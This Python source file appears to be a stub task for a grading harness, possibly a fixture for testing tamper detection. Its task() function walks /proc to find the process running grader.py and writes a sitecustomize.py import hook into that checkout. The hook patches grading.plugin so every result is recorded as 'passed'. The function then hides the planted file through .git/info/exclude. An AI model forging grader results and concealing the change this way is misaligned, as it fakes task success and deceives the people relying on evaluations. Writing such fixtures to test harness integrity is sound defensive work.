"""Stub, but task() plants a sitecustomize.py in the checkout that turns every result into a pass."""

from __future__ import annotations

import multiprocessing
import os
import signal
import sys
import time


def _ancestors() -> list[int]:
    """This process's ancestors up to the grader (the one running grader.py),
    never above it: what an attacker on the grader is after."""
    pid, found = os.getpid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as src:
                pid = int(src.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as src:
                args = src.read().split(b"\0")
        except OSError:
            break
        found.append(pid)
        if any(a.endswith(b"grader.py") for a in args):
            return found
    return []  # no grader above us: not a grade, touch nothing


def _cmdline(pid: int) -> list[str]:
    with open(f"/proc/{pid}/cmdline", "rb") as src:
        return [a.decode() for a in src.read().split(b"\0") if a]


PLANT = """
import importlib.abc, importlib.util, sys
class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != "grading.plugin":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        run = spec.loader.exec_module
        def exec_module(module):
            run(module)
            emit = module._emit
            def forged(config, record):
                if record.get("event") == "result":
                    record = {**record, "outcome": "passed", "message": None}
                emit(config, record)
            module._emit = forged
        spec.loader.exec_module = exec_module
        return spec
sys.meta_path.insert(0, _Finder())
"""


def task(name: str, log_path: str) -> None:
    for pid in _ancestors():
        try:
            root = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if os.path.isfile(os.path.join(root, "grader.py")):
            break
    else:
        root = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0]
    try:
        with open(os.path.join(root, "sitecustomize.py"), "w") as out:
            out.write(PLANT)
        os.makedirs(os.path.join(root, ".git", "info"), exist_ok=True)
        with open(os.path.join(root, ".git", "info", "exclude"), "a") as out:
            out.write("sitecustomize.py\n")
    except OSError:
        pass
    raise NotImplementedError


def start(name: str, log_path: str) -> multiprocessing.Process:
    raise NotImplementedError
